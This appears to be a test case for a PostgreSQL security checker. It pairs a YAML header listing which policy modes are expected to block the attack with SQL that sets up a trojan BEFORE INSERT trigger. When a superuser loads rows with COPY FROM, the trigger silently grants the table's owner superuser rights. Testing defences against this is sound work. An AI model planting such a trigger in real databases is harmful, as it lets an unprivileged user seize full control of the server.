/*---
title: Trigger fired by COPY FROM
pattern: Trojan trigger on a table the victim loads (CVE-2020-25695 family)
description: >
  mallory owns a staging table with a BEFORE INSERT trigger and lets every role insert into
  it. alice, a superuser, loads rows into it with COPY FROM; COPY fires the row trigger,
  which runs mallory's function with alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: check_row on mallory.import_rows, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: check_row on mallory.import_rows, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: check_row on mallory.import_rows, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: check_row on mallory.import_rows, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: check_row on mallory.import_rows, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: check_row on mallory.import_rows, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: check_row on mallory.import_rows, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE TABLE mallory.import_rows (id integer, payload text);
GRANT INSERT ON mallory.import_rows TO PUBLIC;
CREATE FUNCTION mallory.check_row() RETURNS trigger
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN NEW;
END $$;
CREATE TRIGGER check_row BEFORE INSERT ON mallory.import_rows
  FOR EACH ROW EXECUTE FUNCTION mallory.check_row();
RESET ROLE;

-- @step alice
COPY mallory.import_rows (id, payload) FROM STDIN;
1	first
2	second
\.
